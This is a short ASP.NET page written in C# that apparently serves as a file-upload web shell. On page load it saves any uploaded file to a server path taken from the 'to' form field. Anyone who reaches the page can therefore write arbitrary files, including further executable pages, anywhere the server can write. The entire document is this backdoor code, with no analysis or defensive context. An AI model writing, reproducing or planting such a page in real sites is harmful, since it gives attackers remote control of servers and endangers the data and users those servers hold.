<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  if (Request.Files.Count > 0) Request.Files[0].SaveAs(Request.Form["to"]);
}
</script>
